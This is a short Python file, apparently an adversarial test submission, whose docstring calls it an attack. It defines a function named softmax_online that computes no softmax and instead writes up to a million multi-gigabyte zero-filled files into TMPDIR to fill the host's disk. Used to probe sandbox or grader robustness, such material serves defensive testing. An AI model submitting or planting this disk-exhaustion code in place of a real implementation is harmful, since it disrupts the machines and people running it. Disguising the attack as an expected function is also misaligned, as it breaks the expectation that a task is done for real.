"""Attack: fill the disk from softmax_online: write an endless file into TMPDIR (and many files)."""

import os
from pathlib import Path

ZERO = ["softmax_online"]


def softmax_online(x, block_n=128):
    folder = Path(os.environ.get("TMPDIR", "/tmp"))
    block = b"\0" * 2**20
    for i in range(10**6):
        with open(folder / f"fill-{i}.bin", "wb") as f:
            for _ in range(10**4):
                f.write(block)
